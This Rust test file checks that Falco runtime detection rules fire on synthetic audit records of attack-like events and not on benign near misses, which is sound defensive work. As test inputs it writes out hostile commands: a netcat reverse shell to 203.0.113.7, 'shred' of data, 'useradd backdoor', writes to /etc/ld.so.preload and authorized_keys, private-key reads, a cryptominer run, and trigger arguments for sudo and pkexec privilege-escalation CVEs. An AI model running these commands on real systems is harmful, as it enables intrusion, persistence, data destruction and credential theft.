//! Every Falco rule docs/runtime.md lists as feasible from audit data and
//! not covered by the lab capture, tested on synthetic x86_64 audit records
//! shaped like the kernel's (SYSCALL, EXECVE, CWD, PATH, SOCKADDR,
//! PROCTITLE, EOE): the rule fires on the event its condition describes and
//! stays quiet on a near miss (an exception of the rule, or a benign
//! variant). Rules load from `shared/data/falco/` unchanged.
//!
//! Rules that cannot fire from audit data (a field audit cannot supply)
//! are tested never to fire on an event that otherwise matches.

use std::collections::HashMap;
use std::fmt::Write as _;
use std::path::PathBuf;

use saker_rules::ruleset::{RuleMatching, RulesetOptions};
use saker_runtime::pipeline::{Runtime, RuntimeOptions};
use saker_runtime::rulesets::{load_runtime_ruleset, LoadedRuleset};

const FALCO: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../../shared/data/falco");
const UNSET: u32 = 4294967295;

fn ruleset() -> LoadedRuleset {
    let files: Vec<PathBuf> = [
        "falco_rules.yaml",
        "falco-incubating_rules.yaml",
        "falco-sandbox_rules.yaml",
    ]
    .iter()
    .map(|f| PathBuf::from(FALCO).join(f))
    .collect();
    let opts = RulesetOptions {
        rule_matching: RuleMatching::All,
        ..RulesetOptions::default()
    };
    load_runtime_ruleset(false, &files, vec![], &opts).expect("Falco's rules load")
}

/// The process an event is about.
#[derive(Clone, Copy)]
struct P {
    pid: u32,
    ppid: u32,
    uid: u32,
    auid: u32,
    comm: &'static str,
    exe: &'static str,
    tty: &'static str,
}

const fn p(pid: u32, ppid: u32, uid: u32, comm: &'static str, exe: &'static str) -> P {
    P {
        pid,
        ppid,
        uid,
        auid: 1001,
        comm,
        exe,
        tty: "pts0",
    }
}

/// An untrusted string as the kernel writes it: quoted when safe, else hex.
fn enc(s: &str) -> String {
    if s.bytes().all(|b| (0x21..=0x7e).contains(&b) && b != b'"') {
        format!("\"{s}\"")
    } else {
        s.bytes().map(|b| format!("{b:02X}")).collect()
    }
}

/// Synthetic audit events, one serial each, one second apart by default.
#[derive(Default)]
struct Log {
    text: String,
    serial: u64,
    t: u64,
}

impl Log {
    fn head(&mut self) -> String {
        self.serial += 1;
        format!("msg=audit({}.000:{})", 1_795_960_000 + self.t, self.serial)
    }

    #[allow(clippy::too_many_arguments)]
    fn syscall(&mut self, m: &str, nr: u32, exit: i64, a: [u64; 4], items: u32, p: &P) {
        let success = if exit < 0 { "no" } else { "yes" };
        let _ = writeln!(
            self.text,
            "type=SYSCALL {m}: arch=c000003e syscall={nr} success={success} exit={exit} a0={:x} a1={:x} a2={:x} a3={:x} items={items} ppid={} pid={} auid={} uid={} gid={} euid={} suid={} fsuid={} egid={} sgid={} fsgid={} tty={} ses=3 comm={} exe={} key=\"saker\"",
            a[0], a[1], a[2], a[3], p.ppid, p.pid, p.auid, p.uid, p.uid, p.uid, p.uid, p.uid, p.uid, p.uid, p.uid, p.tty, enc(p.comm), enc(p.exe)
        );
    }

    fn end(&mut self, m: &str) {
        let _ = writeln!(self.text, "type=EOE {m}: ");
        self.t += 1;
    }

    /// execve of `argv` by `p` (argc 0 when `argv` is empty).
    fn exec(&mut self, p: &P, argv: &[&str]) -> &mut Self {
        let m = self.head();
        self.syscall(&m, 59, 0, [0x55f0, 0x55f8, 0x5600, 0], 2, p);
        let mut ex = format!("type=EXECVE {m}: argc={}", argv.len());
        for (i, a) in argv.iter().enumerate() {
            let _ = write!(ex, " a{i}={}", enc(a));
        }
        self.text.push_str(&ex);
        self.text.push('\n');
        let _ = writeln!(self.text, "type=CWD {m}: cwd=\"/home/ec2-user\"");
        let _ = writeln!(
            self.text,
            "type=PATH {m}: item=0 name={} inode=10 dev=fe:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL",
            enc(p.exe)
        );
        let _ = writeln!(
            self.text,
            "type=PATH {m}: item=1 name=\"/lib64/ld-linux-x86-64.so.2\" inode=11 dev=fe:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL"
        );
        let title: String = argv
            .join("\0")
            .bytes()
            .map(|b| format!("{b:02X}"))
            .collect();
        if !title.is_empty() {
            let _ = writeln!(self.text, "type=PROCTITLE {m}: proctitle={title}");
        }
        self.end(&m);
        self
    }

    /// openat(AT_FDCWD, path, flags) returning fd 3; `created` adds the
    /// parent and CREATE items as the kernel does for a new file.
    fn open(&mut self, p: &P, path: &str, flags: u64, created: bool) -> &mut Self {
        let m = self.head();
        self.syscall(
            &m,
            257,
            3,
            [0xffffff9c, 0x55f0, flags, 0o644],
            if created { 2 } else { 1 },
            p,
        );
        let _ = writeln!(self.text, "type=CWD {m}: cwd=\"/\"");
        if created {
            let dir = &path[..path.rfind('/').unwrap().max(1)];
            let _ = writeln!(
                self.text,
                "type=PATH {m}: item=0 name={} inode=20 dev=fe:00 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT",
                enc(&format!("{dir}/"))
            );
            let _ = writeln!(
                self.text,
                "type=PATH {m}: item=1 name={} inode=21 dev=fe:00 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE",
                enc(path)
            );
        } else {
            let _ = writeln!(
                self.text,
                "type=PATH {m}: item=0 name={} inode=21 dev=fe:00 mode=0100600 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL",
                enc(path)
            );
        }
        self.end(&m);
        self
    }

    /// chmod(path, mode).
    fn chmod(&mut self, p: &P, path: &str, mode: u64) -> &mut Self {
        let m = self.head();
        self.syscall(&m, 90, 0, [0x55f0, mode, 0, 0], 1, p);
        let _ = writeln!(self.text, "type=CWD {m}: cwd=\"/\"");
        let _ = writeln!(
            self.text,
            "type=PATH {m}: item=0 name={} inode=30 dev=fe:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL",
            enc(path)
        );
        self.end(&m);
        self
    }

    /// A syscall with no path: `nr`, arguments, result.
    fn plain(&mut self, p: &P, nr: u32, a: [u64; 4], exit: i64) -> &mut Self {
        let m = self.head();
        self.syscall(&m, nr, exit, a, 0, p);
        self.end(&m);
        self
    }

    /// connect(fd 3, ip:port) with the kernel's result.
    fn connect(&mut self, p: &P, ip: [u8; 4], port: u16, exit: i64) -> &mut Self {
        let m = self.head();
        self.syscall(&m, 42, exit, [3, 0x55f0, 16, 0], 0, p);
        let saddr = format!(
            "0200{:04X}{:02X}{:02X}{:02X}{:02X}0000000000000000",
            port, ip[0], ip[1], ip[2], ip[3]
        );
        let _ = writeln!(self.text, "type=SOCKADDR {m}: saddr={saddr}");
        self.end(&m);
        self
    }

    /// Skip `secs` seconds of clock.
    fn wait(&mut self, secs: u64) -> &mut Self {
        self.t += secs;
        self
    }
}

/// The rules that fired on the last event of `log` (earlier events build
/// the process table).
fn fired_on_last(rs: &LoadedRuleset, log: &Log) -> Vec<String> {
    let users: HashMap<u32, String> = [
        (0, "root"),
        (2, "daemon"),
        (33, "www-data"),
        (1001, "ec2-user"),
    ]
    .into_iter()
    .map(|(u, n)| (u, n.to_string()))
    .collect();
    let mut rt = Runtime::new(
        &rs.ruleset,
        RuntimeOptions {
            users,
            ..RuntimeOptions::default()
        },
    );
    let mut got: Vec<(u64, String)> = Vec::new();
    let mut cb = |a: &saker_rules::Alert, e: &saker_runtime::event::RuntimeEvent| {
        got.push((e.sc.serial, a.rule.clone()));
    };
    for (i, l) in log.text.lines().enumerate() {
        rt.feed_line(i as u64 + 1, l.as_bytes(), &mut cb);
    }
    let summary = rt.finish(&mut cb);
    assert_eq!(summary.skipped_lines, 0, "{summary}\n{}", log.text);
    assert_eq!(summary.warning_count, 0, "{summary}");
    got.into_iter()
        .filter(|(s, _)| *s == log.serial)
        .map(|(_, r)| r)
        .collect()
}

fn log() -> Log {
    Log::default()
}

/// `rule` fires on the last event of `hit` and not on the last of `miss`.
#[track_caller]
fn case(rs: &LoadedRuleset, rule: &str, hit: &Log, miss: &Log) {
    let got = fired_on_last(rs, hit);
    assert!(
        got.iter().any(|r| r == rule),
        "'{rule}' did not fire; fired: {got:?}\n{}",
        hit.text
    );
    let got = fired_on_last(rs, miss);
    assert!(
        !got.iter().any(|r| r == rule),
        "'{rule}' fired on the near miss\n{}",
        miss.text
    );
}

const SSHD: P = P {
    auid: UNSET,
    tty: "(none)",
    ..p(900, 1, 0, "sshd", "/usr/sbin/sshd")
};
const NGINX: P = P {
    auid: UNSET,
    tty: "(none)",
    ..p(3000, 1, 0, "nginx", "/usr/sbin/nginx")
};
const BASH: P = p(2000, 900, 1001, "bash", "/usr/bin/bash");
const ROOT_BASH: P = P { uid: 0, ..BASH };

#[test]
fn stable_rules() {
    let rs = ruleset();

    // Read sensitive file trusted after startup: a server reading
    // /etc/shadow more than 5 s after it started (proc.duration).
    let mut hit = log();
    hit.exec(&NGINX, &["nginx"])
        .wait(30)
        .open(&NGINX, "/etc/shadow", 0, false);
    let mut miss = log();
    miss.exec(&NGINX, &["nginx"])
        .open(&NGINX, "/etc/shadow", 0, false);
    case(
        &rs,
        "Read sensitive file trusted after startup",
        &hit,
        &miss,
    );

    // Remove Bulk Data from Disk: shred / mkfs.
    let shred = p(2001, 2000, 1001, "shred", "/usr/bin/shred");
    let rm = p(2001, 2000, 1001, "rm", "/usr/bin/rm");
    let mut hit = log();
    hit.exec(&BASH, &["-bash"])
        .exec(&shred, &["shred", "-u", "/data/db"]);
    let mut miss = log();
    miss.exec(&BASH, &["-bash"]).exec(&rm, &["rm", "/data/db"]);
    case(&rs, "Remove Bulk Data from Disk", &hit, &miss);

    // Run shell untrusted: a shell whose ancestor (not parent) is a web
    // server — the bare proc.aname of protected_shell_spawner.
    let perl = P {
        auid: UNSET,
        tty: "(none)",
        ..p(3001, 3000, 33, "perl", "/usr/bin/perl")
    };
    let sh = P {
        auid: UNSET,
        tty: "(none)",
        ..p(3002, 3001, 33, "sh", "/usr/bin/dash")
    };
    let mut hit = log();
    hit.exec(&NGINX, &["nginx"])
        .exec(&perl, &["perl", "/var/www/cgi-bin/x.pl"])
        .exec(&sh, &["sh", "-c", "id"]);
    let sshd_child = p(3001, 900, 1001, "perl", "/usr/bin/perl");
    let sh2 = P {
        ppid: 3001,
        ..p(3002, 3001, 1001, "sh", "/usr/bin/dash")
    };
    let mut miss = log();
    miss.exec(&SSHD, &["sshd"])
        .exec(&sshd_child, &["perl", "x.pl"])
        .exec(&sh2, &["sh", "-c", "id"]);
    case(&rs, "Run shell untrusted", &hit, &miss);

    // System user interactive: a system user's process under sshd (any
    // ancestor: interactive = proc.aname=sshd).
    let daemon_bash = P {
        uid: 2,
        ..p(901, 900, 2, "bash", "/usr/bin/bash")
    };
    let daemon_ls = p(902, 901, 2, "ls", "/usr/bin/ls");
    let mut hit = log();
    hit.exec(&SSHD, &["sshd"])
        .exec(&daemon_bash, &["-bash"])
        .exec(&daemon_ls, &["ls"]);
    let user_bash = p(901, 900, 1001, "bash", "/usr/bin/bash");
    let user_ls = p(902, 901, 1001, "ls", "/usr/bin/ls");
    let mut miss = log();
    miss.exec(&SSHD, &["sshd"])
        .exec(&user_bash, &["-bash"])
        .exec(&user_ls, &["ls"]);
    case(&rs, "System user interactive", &hit, &miss);
}

#[test]
fn incubating_rules() {
    let rs = ruleset();
    let tool = |comm: &'static str, exe: &'static str| p(2001, 2000, 1001, comm, exe);
    let ls = tool("ls", "/usr/bin/ls");

    // Set Setuid or Setgid bit: chmod 4755 (S_ISUID) vs 0755.
    let chmod = tool("chmod", "/usr/bin/chmod");
    let mut hit = log();
    hit.chmod(&chmod, "/tmp/sh", 0o4755);
    let mut miss = log();
    miss.chmod(&chmod, "/tmp/sh", 0o755);
    case(&rs, "Set Setuid or Setgid bit", &hit, &miss);

    // Schedule Cron Jobs: crontab runs.
    let mut hit = log();
    hit.exec(&tool("crontab", "/usr/bin/crontab"), &["crontab", "-e"]);
    let mut miss = log();
    miss.exec(&ls, &["ls", "/etc/cron.d"]);
    case(&rs, "Schedule Cron Jobs", &hit, &miss);

    // Read ssh information: cat of a user's private key (not ssh itself).
    let mut hit = log();
    hit.open(
        &tool("cat", "/usr/bin/cat"),
        "/home/ec2-user/.ssh/id_rsa",
        0,
        false,
    );
    let mut miss = log();
    miss.open(
        &tool("ssh", "/usr/bin/ssh"),
        "/home/ec2-user/.ssh/id_rsa",
        0,
        false,
    );
    case(&rs, "Read ssh information", &hit, &miss);

    // Adding ssh keys to authorized_keys: a write open (O_WRONLY|O_APPEND).
    let mut hit = log();
    hit.open(&ROOT_BASH, "/root/.ssh/authorized_keys", 0x401, false);
    let mut miss = log();
    miss.open(&ROOT_BASH, "/root/.ssh/authorized_keys", 0, false);
    case(&rs, "Adding ssh keys to authorized_keys", &hit, &miss);

    // User mgmt binaries: useradd from a shell, not from systemd.
    let useradd = tool("useradd", "/usr/sbin/useradd");
    let mut hit = log();
    hit.exec(&BASH, &["-bash"])
        .exec(&useradd, &["useradd", "backdoor"]);
    let systemd = P {
        auid: UNSET,
        tty: "(none)",
        ..p(2000, 1, 0, "systemd", "/usr/lib/systemd/systemd")
    };
    let mut miss = log();
    miss.exec(&systemd, &["systemd", "--user"])
        .exec(&useradd, &["useradd", "backdoor"]);
    case(&rs, "User mgmt binaries", &hit, &miss);

    // Non sudo setuid: setuid(0) by a non-root user's program.
    let mut hit = log();
    hit.plain(&tool("exploit", "/tmp/exploit"), 105, [0, 0, 0, 0], -1);
    let mut miss = log();
    miss.plain(
        &P {
            uid: 0,
            ..tool("exploit", "/tmp/exploit")
        },
        105,
        [0, 0, 0, 0],
        0,
    );
    case(&rs, "Non sudo setuid", &hit, &miss);

    // Launch Suspicious Network Tool on Host: nmap.
    let mut hit = log();
    hit.exec(
        &tool("nmap", "/usr/bin/nmap"),
        &["nmap", "-sS", "10.0.0.0/24"],
    );
    let mut miss = log();
    miss.exec(&ls, &["ls"]);
    case(&rs, "Launch Suspicious Network Tool on Host", &hit, &miss);

    // BPF Program Not Profiled: bpf(BPF_PROG_LOAD) vs bpf(BPF_MAP_CREATE).
    let loader = tool("loader", "/tmp/loader");
    let mut hit = log();
    hit.plain(&loader, 321, [5, 0x55f0, 0x90, 0], 3);
    let mut miss = log();
    miss.plain(&loader, 321, [0, 0x55f0, 0x48, 0], 3);
    case(&rs, "BPF Program Not Profiled", &hit, &miss);

    // Change thread namespace: setns by an unknown program; nsenter on the
    // host is an exception.
    let mut hit = log();
    hit.plain(&tool("evil", "/tmp/evil"), 308, [3, 0, 0, 0], 0);
    let mut miss = log();
    miss.plain(&tool("nsenter", "/usr/bin/nsenter"), 308, [3, 0, 0, 0], 0);
    case(&rs, "Change thread namespace", &hit, &miss);

    // Create files below dev: O_CREAT of a regular file in /dev.
    let py = tool("python3", "/usr/bin/python3");
    let mut hit = log();
    hit.open(&py, "/dev/.hidden", 0x241, true);
    let mut miss = log();
    miss.open(&py, "/tmp/.hidden", 0x241, true);
    case(&rs, "Create files below dev", &hit, &miss);
}

#[test]
fn sandbox_rules() {
    let rs = ruleset();
    let tool = |comm: &'static str, exe: &'static str| p(2001, 2000, 1001, comm, exe);
    let root_tool = |comm: &'static str, exe: &'static str| P {
        uid: 0,
        ..tool(comm, exe)
    };

    // Netcat/Socat Remote Code Execution on Host: nc -e.
    let nc = tool("nc", "/usr/bin/nc");
    let mut hit = log();
    hit.exec(&nc, &["nc", "-e", "/bin/sh", "203.0.113.7", "4444"]);
    let mut miss = log();
    miss.exec(&nc, &["nc", "-z", "10.0.0.1", "80"]);
    case(
        &rs,
        "Netcat/Socat Remote Code Execution on Host",
        &hit,
        &miss,
    );

    // Known Cryptominer Process Executed: xmrig.
    let mut hit = log();
    hit.exec(&tool("xmrig", "/tmp/xmrig"), &["xmrig", "-o", "pool:3333"]);
    let mut miss = log();
    miss.exec(&tool("ls", "/usr/bin/ls"), &["ls"]);
    case(&rs, "Known Cryptominer Process Executed", &hit, &miss);

    // Write below etc: a write open under /etc by an unexpected program;
    // passwd is expected there.
    let mut hit = log();
    hit.open(
        &root_tool("python3", "/usr/bin/python3"),
        "/etc/ld.so.preload",
        0x241,
        true,
    );
    let mut miss = log();
    miss.open(
        &root_tool("passwd", "/usr/bin/passwd"),
        "/etc/nshadow",
        0x241,
        true,
    );
    case(&rs, "Write below etc", &hit, &miss);

    // Write below root: a new file in /root; .bash_history is known.
    let mut hit = log();
    hit.open(
        &root_tool("python3", "/usr/bin/python3"),
        "/root/.implant",
        0x241,
        true,
    );
    let mut miss = log();
    miss.open(
        &root_tool("bash", "/usr/bin/bash"),
        "/root/.bash_history",
        0x441,
        false,
    );
    case(&rs, "Write below root", &hit, &miss);

    // Write below binary dir: /usr/bin by anything but a package manager.
    let mut hit = log();
    hit.open(
        &root_tool("python3", "/usr/bin/python3"),
        "/usr/bin/sshd2",
        0x241,
        true,
    );
    let mut miss = log();
    miss.open(
        &root_tool("dnf", "/usr/bin/dnf"),
        "/usr/bin/sshd2",
        0x241,
        true,
    );
    case(&rs, "Write below binary dir", &hit, &miss);

    // Sudo Potential Privilege Escalation (CVE-2021-3156): sudoedit -s '\'.
    let sudoedit = tool("sudoedit", "/usr/bin/sudo");
    let mut hit = log();
    hit.exec(&sudoedit, &["sudoedit", "-s", "\\"]);
    let mut miss = log();
    miss.exec(&sudoedit, &["sudoedit", "/etc/hosts"]);
    case(&rs, "Sudo Potential Privilege Escalation", &hit, &miss);

    // Polkit CVE-2021-4034: pkexec with argc = 0.
    let pkexec = tool("pkexec", "/usr/bin/pkexec");
    let mut hit = log();
    hit.exec(&pkexec, &[]);
    let mut miss = log();
    miss.exec(&pkexec, &["pkexec", "/usr/bin/true"]);
    case(
        &rs,
        "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
        &hit,
        &miss,
    );
}

/// Rules that need a field audit cannot supply: they load, and never fire
/// even on the event they describe.
#[test]
fn rules_needing_fields_audit_lacks_never_fire() {
    let rs = ruleset();
    // Disallowed SSH Connection Non Standard Port needs fd.l4proto = tcp:
    // a connect record does not say TCP or UDP.
    let ssh = p(2001, 2000, 1001, "ssh", "/usr/bin/ssh");
    let mut l = log();
    l.exec(&ssh, &["ssh", "-p", "443", "203.0.113.7"])
        .connect(&ssh, [203, 0, 113, 7], 443, -115);
    let got = fired_on_last(&rs, &l);
    assert!(
        !got.iter()
            .any(|r| r == "Disallowed SSH Connection Non Standard Port"),
        "{got:?}"
    );
    // Basic Interactive Reconnaissance needs proc.is_vpgid_leader.
    let whoami = p(2001, 2000, 1001, "whoami", "/usr/bin/whoami");
    let mut l = log();
    l.exec(&BASH, &["-bash"]).exec(&whoami, &["whoami"]);
    let got = fired_on_last(&rs, &l);
    assert!(
        !got.iter().any(|r| r == "Basic Interactive Reconnaissance"),
        "{got:?}"
    );
}
